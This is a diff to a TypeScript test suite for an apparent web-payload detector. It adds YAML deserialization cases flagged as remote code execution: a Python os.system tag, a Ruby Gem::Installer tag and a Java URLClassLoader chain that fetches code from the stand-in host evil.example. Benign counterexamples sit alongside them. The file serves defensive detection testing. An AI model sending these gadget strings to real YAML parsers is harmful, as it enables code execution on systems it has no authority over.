@@ -597,7 +597,19 @@ const NOT_PHP_TAG_SHELL: Case[] = [
   ["body:json", JSON.stringify({ md: "Write <?php at the top of the file, then run `composer install` and `php -S localhost:8000`." })],
 ];
 
+// A YAML tag that builds a code-running object (yamltags.ts): rce.
+const YAML_GADGET: Case[] = [
+  ["body:text", "!!python/object/apply:os.system ['id']"],
+  ["body:text", "--- !ruby/object:Gem::Installer\ni: x\n"],
+  ["body:form", "config=" + encodeURIComponent('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]')],
+];
+const NOT_YAML_GADGET: Case[] = [
+  ["body:text", "--- !ruby/hash:ActiveSupport::HashWithIndifferentAccess\nname: Ann\nurl: https://example.com/a/b\n"],
+  ["body:text", "tags: !!set {a, b}\nwhen: !!timestamp 2026-12-06\npath: /var/lib/x\n"],
+];
+
 describeVerdicts("%s payload verdicts", () => core, [
+  ["yaml-gadget", "rce", YAML_GADGET, NOT_YAML_GADGET],
   ["python-escape", "rce|ssti|xss|nosqli", PYTHON_ESCAPE, NOT_PYTHON_ESCAPE],
   ["powershell-cradle", "rce", POWERSHELL_CRADLE, NOT_POWERSHELL_CRADLE],
   ["php-tag-shell", "rce", PHP_TAG_SHELL, NOT_PHP_TAG_SHELL],
